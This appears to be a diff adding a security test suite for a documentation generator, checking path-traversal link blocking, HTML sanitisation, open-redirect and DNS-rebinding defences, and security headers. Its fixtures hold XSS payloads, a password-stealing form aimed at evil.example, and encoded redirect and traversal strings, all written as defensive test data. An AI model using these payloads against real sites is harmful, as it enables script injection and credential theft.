@@ -1,0 +1,379 @@
+// The security suite: what a site's content, its readers' requests and other sites' pages cannot
+// make docgen do. Links and images publish only files of the content and static folders (build,
+// check and dev alike); redirects never leave the site (docgen serve, docgen dev, nginx with the
+// nginx.conf the build wrote); docgen dev answers only its own host names; raw HTML can be
+// sanitized or refused (markdown.rawHtml); every page carries the header policy in a <meta>; the
+// servers send the same headers (HSTS from nginx.conf only).
+import { describe, it, expect, beforeAll, afterAll } from 'vitest';
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import http from 'node:http';
+import { parse } from 'node-html-parser';
+import { makeProject } from '../helpers/fixture.ts';
+import { repoRoot, runCli, startServe } from '../helpers/cli.ts';
+import { startDev, type Dev } from '../helpers/dev.ts';
+import { startNginx, type RunningNginx } from '../helpers/nginx.ts';
+import { isSameSiteLocation } from '../../src/shared/urls.ts';
+import { metaPolicy } from '../../src/generator/emit/headers.ts';
+
+const WAIT = { timeout: 10_000 };
+
+interface RawResponse {
+  status: number;
+  headers: http.IncomingHttpHeaders;
+  body: string;
+}
+
+/** A GET with the path sent exactly as written, and optionally another Host header (fetch allows neither). */
+function raw(origin: string, rawPath: string, host?: string): Promise<RawResponse> {
+  const { hostname, port } = new URL(origin);
+  return new Promise((resolve, reject) => {
+    const req = http.request({ host: hostname, port, path: rawPath, method: 'GET', headers: host ? { Host: host } : {} }, (res) => {
+      let body = '';
+      res.setEncoding('utf8');
+      res.on('data', (d) => (body += d));
+      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body }));
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+/** Every file under a folder, with its bytes. */
+function filesUnder(dir: string): { file: string; bytes: Buffer }[] {
+  if (!fs.existsSync(dir)) return [];
+  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => ({ file: path.join(e.parentPath, e.name), bytes: fs.readFileSync(path.join(e.parentPath, e.name)) }));
+}
+
+const config = (extra = '') => `export default {
+  title: 'Security Fixture',
+  url: 'https://docs.example.com',
+  baseUrl: '/',
+  navbar: { title: 'Fixture', items: [{ type: 'doc', docId: 'intro', label: 'Docs' }] },
+  docs: { lastVersion: 'current' },
+  ${extra}
+};
+`;
+
+describe('links and images lead only to files of the content and static folders', () => {
+  // A folder of this machine outside the project, with files nobody meant to publish.
+  const secretDir = fs.mkdtempSync(path.join(os.tmpdir(), 'docgen-secret-'));
+  const SECRET = 'TOP-SECRET-CONTENT';
+  fs.writeFileSync(path.join(secretDir, 'secret.txt'), SECRET);
+  fs.writeFileSync(path.join(secretDir, 'secret.png'), `${SECRET}-PNG`);
+  let dir = '';
+  // Lines of content/docs/leak.md that must each be an error.
+  const LEAK_LINES = [5, 7, 9, 11, 13, 15, 17, 19, 21];
+  beforeAll(() => {
+    dir = makeProject({
+      'config/site.config.ts': config(),
+      'content/sidebars.ts': "export default { docs: ['intro', 'leak'] };\n",
+      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nA [file](./files/ok.txt) and a ![logo](/img/logo.svg) stay fine.\n',
+      'content/docs/files/ok.txt': 'a file of the docs',
+      'content/static/img/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
+    });
+    const docs = path.join(dir, 'content/docs');
+    const climb = path.relative(docs, path.join(secretDir, 'secret.txt')).split(path.sep).join('/');
+    const climbPng = path.relative(docs, path.join(secretDir, 'secret.png')).split(path.sep).join('/');
+    // From the static folder to the file system's root and back down: a '/'-rooted path that climbs.
+    const rooted = `/${'../'.repeat(30)}${secretDir.slice(1)}`;
+    fs.symlinkSync(path.join(secretDir, 'secret.txt'), path.join(docs, 'link.txt'));
+    fs.symlinkSync(secretDir, path.join(docs, 'elsewhere'), 'dir');
+    fs.writeFileSync(
+      path.join(docs, 'leak.md'),
+      [
+        '---',
+        'title: Leak',
+        '---',
+        '',
+        `[climbing](${climb})`,
+        '',
+        `![climbing image](${climbPng})`,
+        '',
+        `[encoded](${climb.replace(/\.\./g, '%2e%2e')})`,
+        '',
+        '[a symlink to a file outside](./link.txt)',
+        '',
+        '[a symlink to a folder outside](./elsewhere/secret.txt)',
+        '',
+        `[rooted](${rooted}/secret.txt)`,
+        '',
+        `![rooted image](${rooted}/secret.png)`,
+        '',
+        `[an absolute path](${secretDir}/secret.txt)`,
+        '',
+        `![an absolute path](${secretDir}/secret.png)`,
+        '',
+      ].join('\n'),
+    );
+  });
+  afterAll(() => {
+    fs.rmSync(dir, { recursive: true, force: true });
+    fs.rmSync(secretDir, { recursive: true, force: true });
+  });
+
+  const expectErrors = (output: string) => {
+    for (const line of LEAK_LINES) expect(output, `line ${line}`).toMatch(new RegExp(`content/docs/leak\\.md:${line}  link to a file outside the site's content: links and images may point to files inside the content and static folders only`));
+    expect(output).toContain('links and images may point to files inside the content and static folders only (content/docs/, content/static/)');
+    expect(output).not.toContain('intro.md');
+  };
+
+  it('docgen build fails with file:line errors and publishes none of those files', async () => {
+    const r = await runCli(['--root', dir, 'build']);
+    expect(r.code).not.toBe(0);
+    expectErrors(r.stdout + r.stderr);
+    for (const { file, bytes } of filesUnder(path.join(dir, 'build'))) expect(bytes.toString('latin1'), file).not.toContain(SECRET);
+  });
+
+  it('docgen check reports the same errors', async () => {
+    const r = await runCli(['--root', dir, 'check']);
+    expect(r.code).not.toBe(0);
+    expectErrors(r.stdout + r.stderr);
+  });
+
+  it('docgen dev shows them in the page overlay and serves none of those files', async () => {
+    const dev = await startDev(dir);
+    try {
+      const page = await raw(dev.origin, '/docs/leak');
+      expect(page.body).toContain('id="docgen-overlay"');
+      for (const line of LEAK_LINES) expect(page.body).toContain(`content/docs/leak.md:${line}`);
+      expect(page.body).toContain('content and static folders');
+      expect(page.body).not.toMatch(/assets\/(files|images)\/secret/);
+      // Where a copy would have been served.
+      const digest = crypto.createHash('sha256').update(SECRET).digest('hex').slice(0, 10);
+      const copy = await raw(dev.origin, `/assets/files/secret-${digest}.txt`);
+      expect(copy.body).not.toContain(SECRET);
+      await expect.poll(() => dev.output(), WAIT).toContain('content/docs/leak.md:5');
+      // The page without those links is fine.
+      const intro = await raw(dev.origin, '/docs/intro');
+      expect(intro.body).not.toContain('docgen-overlay');
+      expect(intro.body).toMatch(/href="\/assets\/files\/ok-[0-9a-f]{10}\.txt"/);
+    } finally {
+      dev.child.kill();
+    }
+  });
+});
+
+/** A hostile page: every way raw HTML could run script, load another page or dress up as the site. */
+const HOSTILE = `---
+title: Hostile
+---
+
+Some text with <b onclick="alert('b')">bold</b>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, line<br>break and <a href="javascript:alert('a')">a link</a>.
+
+<script>alert('script')</script>
+
+<img src="/img/logo.svg" alt="The logo" onerror="alert('img')">
+
+<details>
+<summary>More</summary>
+
+Hidden **text**.
+
+</details>
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<object data="https://evil.example/x.swf"></object>
+
+<embed src="https://evil.example/x.swf">
+
+<style>body { display: none }</style>
+
+<div style="position:fixed;inset:0" onmouseover="alert('div')">covering div</div>
+
+<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
+
+<a href="JaVaScRiPt:alert('mixed')">mixed case</a> <a href="java&#x09;script:alert('tab')">tab</a> <a href="https://example.com/" id="kept-anchor">a good link</a>
+
+<form action="https://evil.example/steal"><input name="password"></form>
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+<base href="https://evil.example/">
+
+<math><mi xlink:href="data:x,<script>alert('math')</script>">m</mi></math>
+
+A [link to the intro](./intro.md) and code:
+
+\`\`\`js
+const answer = 42;
+\`\`\`
+`;
+
+/** The content of a built page (its route data's HTML). */
+const builtContent = (dir: string, page: string) => (JSON.parse(fs.readFileSync(path.join(dir, 'build/_data', `${page}.json`), 'utf8')) as { page: { doc: { html: string } } }).page.doc.html;
+
+const expectSanitized = (html: string) => {
+  for (const bad of [/<script/i, /\son[a-z]+=/i, /javascript:/i, /<iframe/i, /<object/i, /<embed/i, /<style/i, /style=/i, /<svg/i, /<math/i, /<form/i, /<input/i, /<meta/i, /<base/i, /alert\(/, /evil\.example/]) expect(html).not.toMatch(bad);
+  // Harmless HTML is kept, as are the Markdown's own links and highlighted code.
+  expect(html).toContain('<b>bold</b>');
+  expect(html).toContain('<kbd>Ctrl</kbd>+<kbd>C</kbd>');
+  expect(html).toContain('line<br>break');
+  expect(html).toMatch(/<img src="\/img\/logo\.svg" alt="The logo"[^>]*>/);
+  expect(html).toMatch(/<details>\s*<summary>More<\/summary>\s*<p>Hidden <strong>text<\/strong>\.<\/p>\s*<\/details>/);
+  expect(html).toContain('<a href="https://example.com/" id="kept-anchor"');
+  expect(html).toContain('<a href="/docs/intro">link to the intro</a>');
+  expect(html).toMatch(/<pre[^>]*><code[^>]*>.*answer.*42/s);
+  expect(html).toContain('covering div');
+};
+
+describe('markdown.rawHtml', () => {
+  const dirs: string[] = [];
+  afterAll(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));
+  const project = (extra: string, pages: Record<string, string>, linkModules = false) => {
+    const dir = makeProject({
+      'config/site.config.ts': (linkModules ? "import remarkMath from 'remark-math';\n" : '') + config(extra),
+      'content/sidebars.ts': `export default { docs: ${JSON.stringify(['intro', ...Object.keys(pages)])} };\n`,
+      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nWelcome.\n',
+      'content/static/img/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
+      ...Object.fromEntries(Object.entries(pages).map(([name, text]) => [`content/docs/${name}.md`, text])),
+    });
+    if (linkModules) fs.symlinkSync(path.join(repoRoot, 'node_modules'), path.join(dir, 'node_modules'), 'dir');
+    dirs.push(dir);
+    return dir;
+  };
+
+  it("'sanitize' keeps harmless HTML and drops scripts, handlers, javascript: URLs, frames, objects, styles and SVG (Markdown read by markdown-it)", async () => {
+    const dir = project("markdown: { format: 'detect', rawHtml: 'sanitize' },", { hostile: HOSTILE });
+    const r = await runCli(['--root', dir, 'build']);
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0);
+    expectSanitized(builtContent(dir, 'docs/hostile'));
+    // The whole page: no script but the site's own (the head script and the client's modules).
+    const page = fs.readFileSync(path.join(dir, 'build/docs/hostile.html'), 'utf8');
+    expect(page).not.toMatch(/alert\(|evil\.example|javascript:/);
+  });
+
+  it("'sanitize' does the same when the site's remark plugins have Markdown read by micromark", async () => {
+    const dir = project("markdown: { format: 'md', rawHtml: 'sanitize', remarkPlugins: [remarkMath] },", { hostile: `${HOSTILE}\nMath: $x^2$\n` }, true);
+    const r = await runCli(['--root', dir, 'build']);
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0);
+    const html = builtContent(dir, 'docs/hostile');
+    expect(html).toContain('math-inline');
+    expectSanitized(html);
+  });
+
+  it("'allow' (the default) keeps raw HTML as written", async () => {
+    const dir = project("markdown: { format: 'detect', rawHtml: 'allow' },", { hostile: HOSTILE });
+    expect((await runCli(['--root', dir, 'build'])).code).toBe(0);
+    expect(builtContent(dir, 'docs/hostile')).toContain("<script>alert('script')</script>");
+  });
+
+  it("'error' makes raw HTML a file:line error saying what is accepted (comments are left out quietly)", async () => {
+    const dir = project("markdown: { format: 'detect', rawHtml: 'error' },", {
+      html: '---\ntitle: HTML\n---\n\n<!-- a comment is fine -->\n\nText with <b>bold</b>.\n\n<div>\nA block.\n</div>\n',
+    });
+    const r = await runCli(['--root', dir, 'check']);
+    expect(r.code).not.toBe(0);
+    const out = r.stdout + r.stderr;
+    expect(out).toMatch(/content\/docs\/html\.md:7 {2}raw HTML "<b>" is not accepted \(markdown\.rawHtml is 'error'\): write Markdown instead, or set markdown\.rawHtml to 'sanitize'/);
+    expect(out).toMatch(/content\/docs\/html\.md:7 {2}raw HTML "<\/b>"/);
+    expect(out).toMatch(/content\/docs\/html\.md:9 {2}raw HTML "<div> A block\. <\/div>"/);
+    expect(out).not.toContain('comment');
+  });
+});
+
+describe('a site at the root: its servers and pages', () => {
+  let dir = '';
+  let serve: { origin: string; stop: () => void };
+  let nginx: RunningNginx;
+  let dev: Dev;
+  beforeAll(async () => {
+    dir = makeProject({
+      'config/site.config.ts': config(),
+      'content/sidebars.ts': "export default { docs: ['intro', 'guide'] };\n",
+      'content/docs/intro.md': '---\ntitle: Intro\n---\n\nWelcome. See [the guide](./guide.md).\n',
+      'content/docs/guide.md': '---\ntitle: Guide\n---\n\nText.\n',
+    });
+    const r = await runCli(['--root', dir, 'build']);
+    if (r.code !== 0) throw new Error(r.stderr);
+    [serve, nginx, dev] = await Promise.all([startServe(['--dir', 'build'], { cwd: dir }), startNginx(path.join(dir, 'build')), startDev(dir)]);
+  });
+  afterAll(async () => {
+    serve?.stop();
+    await nginx?.stop();
+    dev?.child.kill();
+    fs.rmSync(dir, { recursive: true, force: true });
+  });
+  const servers = () => ({ 'docgen serve': serve.origin, 'docgen dev': dev.origin, nginx: nginx.origin });
+  const nginxConf = () => fs.readFileSync(path.join(dir, 'build/nginx.conf'), 'utf8');
+  const headerOf = (name: string) => new RegExp(`add_header ${name} "([^"]+)" always;`).exec(nginxConf())?.[1];
+
+  it('redirects only to paths of the same site: never to //host or /\\host, however the request spells it', async () => {
+    const attempts = ['//evil.example/', '//evil.example', '/\\evil.example/', '/\\/evil.example/', '/%2F%2Fevil.example/', '/%2F/evil.example/', '/%5Cevil.example/', '/%5C%5Cevil.example/', '//evil.example/index.html', '//evil.example.html', '/%2F%2Fevil.example.html', '/%2F%2Fevil.example/index.html', '///evil.example/', '/%09/evil.example/'];
+    for (const [name, origin] of Object.entries(servers())) {
+      for (const attempt of attempts) {
+        const r = await raw(origin, attempt);
+        const where = `${name} ${attempt} → ${r.status} ${r.headers.location ?? ''}`;
+        if (r.headers.location !== undefined) expect(isSameSiteLocation(r.headers.location), where).toBe(true);
+        expect(r.headers.location ?? '', where).not.toMatch(/^\/[\\/]|^[a-z]+:/i);
+      }
+      // The site's own redirects still work.
+      const clean = await raw(origin, '/docs/guide/');
+      expect([clean.status, clean.headers.location], name).toEqual([301, '/docs/guide']);
+    }
+  });
+
+  it('docgen dev answers only requests for localhost, IP addresses and its --host name (DNS rebinding)', async () => {
+    const port = new URL(dev.origin).port;
+    for (const host of ['evil.example', `evil.example:${port}`, 'localhost.evil.example', `127.0.0.1.nip.io:${port}`, 'docs.example.com']) {
+      for (const url of ['/docs/intro', '/__docgen/client.js', '/_data/docs/intro.json']) {
+        const r = await raw(dev.origin, url, host);
+        expect(r.status, `${host} ${url}`).toBe(403);
+        expect(r.headers['content-type'], host).toContain('text/plain');
+        expect(r.body, host).toMatch(/^docgen dev answers requests for localhost/);
+      }
+    }
+    for (const host of [`localhost:${port}`, `LOCALHOST:${port}`, `docs.localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, '192.168.1.20', 'localhost.']) {
+      const r = await raw(dev.origin, '/docs/intro', host);
+      expect(r.status, host).toBe(200);
+    }
+  });
+
+  it('every page carries the header policy in a <meta> ahead of every script and style, less what a meta cannot have', async () => {
+    const policy = headerOf('Content-Security-Policy')!;
+    expect(policy).toContain("frame-ancestors 'self'");
+    const expected = metaPolicy(policy);
+    expect(expected).toBe(
+      policy
+        .split('; ')
+        .filter((d) => !d.startsWith('frame-ancestors'))
+        .join('; '),
+    );
+    const pages = filesUnder(path.join(dir, 'build')).filter((f) => f.file.endsWith('.html'));
+    expect(pages.length).toBeGreaterThanOrEqual(4);
+    for (const { file, bytes } of pages) {
+      const head = parse(bytes.toString('utf8')).querySelector('head')!;
+      const metas = head.querySelectorAll('meta[http-equiv="Content-Security-Policy"]');
+      expect(metas.map((m) => m.getAttribute('content')), file).toEqual([expected]);
+      const children = head.childNodes.filter((n) => 'tagName' in n) as unknown as { tagName: string; getAttribute(n: string): string | undefined }[];
+      const at = children.findIndex((n) => n.getAttribute('http-equiv') === 'Content-Security-Policy');
+      const governed = children.findIndex((n) => n.tagName === 'SCRIPT' || n.tagName === 'STYLE' || (n.tagName === 'LINK' && n.getAttribute('rel') === 'stylesheet'));
+      expect(at, file).toBeGreaterThan(-1);
+      expect(at, file).toBeLessThan(governed);
+    }
+    // docgen dev's pages carry it too, and its header is the production one.
+    const devPage = await raw(dev.origin, '/docs/intro');
+    expect(devPage.headers['content-security-policy']).toBe(policy);
+    expect(parse(devPage.body).querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content')).toBe(expected);
+  });
+
+  it('sends Permissions-Policy from every server and Strict-Transport-Security from nginx.conf only', async () => {
+    const permissions = headerOf('Permissions-Policy');
+    expect(permissions).toMatch(/camera=\(\).*microphone=\(\).*geolocation=\(\)/);
+    expect(headerOf('Strict-Transport-Security')).toMatch(/^max-age=\d{7,}/);
+    for (const [name, origin] of Object.entries(servers())) {
+      for (const url of ['/docs/intro', '/no-such-page']) {
+        const r = await raw(origin, url);
+        expect(r.headers['permissions-policy'], `${name} ${url}`).toBe(permissions);
+        expect(r.headers['content-security-policy'], `${name} ${url}`).toBe(headerOf('Content-Security-Policy'));
+        if (name === 'nginx') expect(r.headers['strict-transport-security'], url).toBe(headerOf('Strict-Transport-Security'));
+        else expect(r.headers['strict-transport-security'], `${name} ${url}`).toBeUndefined();
+      }
+    }
+  });
+});
